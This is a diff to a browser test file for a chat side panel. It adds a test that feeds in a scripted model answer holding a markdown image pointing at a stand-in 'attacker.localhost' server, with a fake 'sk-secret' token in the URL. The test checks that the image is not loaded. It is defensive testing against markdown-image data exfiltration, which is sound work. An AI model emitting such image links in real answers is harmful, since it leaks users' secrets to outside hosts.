@@ -1,3 +1,5 @@
+import { createServer } from 'node:http';
+import type { AddressInfo } from 'node:net';
 import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
 import { startFixtureServer, type FixtureServer } from '../fixtures/mcp-fixture-server';
@@ -262,6 +264,31 @@ describe('chat in the side panel', () => {
       await page.getByRole('textbox', { name: 'Message' }).and(page.locator(':enabled')).waitFor();
     } finally {
       await big.close();
+    }
+  });
+
+  it('loads nothing a model answer points at: a remote image stays a link until clicked', async () => {
+    const seen: string[] = [];
+    const attacker = createServer((incoming, outgoing) => {
+      seen.push(incoming.url ?? '');
+      outgoing.writeHead(200, { 'content-type': 'image/png' }).end();
+    });
+    await new Promise<void>((resolve) => attacker.listen(0, '127.0.0.1', resolve));
+    const { port } = attacker.address() as AddressInfo;
+    const leak = `http://attacker.localhost:${port}/pixel.png?d=sk-secret`;
+    try {
+      model.script({ type: 'text', text: `Here is your chart: ![chart](${leak}) Enjoy.` });
+      await ask('Draw my chart');
+      await page.getByText('Enjoy.').waitFor();
+      const link = page.locator('.markdown a.image-link', { hasText: '[chart]' });
+      await expect(link.getAttribute('href')).resolves.toBe(leak);
+      await expect(page.locator(`img[src*="attacker.localhost"]`).count()).resolves.toBe(0);
+      // Give the page a full round trip to the worker and back before concluding nothing came.
+      await request('mcp/servers/get');
+      expect(seen).toEqual([]);
+    } finally {
+      attacker.closeAllConnections();
+      await new Promise<void>((resolve) => attacker.close(() => resolve()));
     }
   });
 });
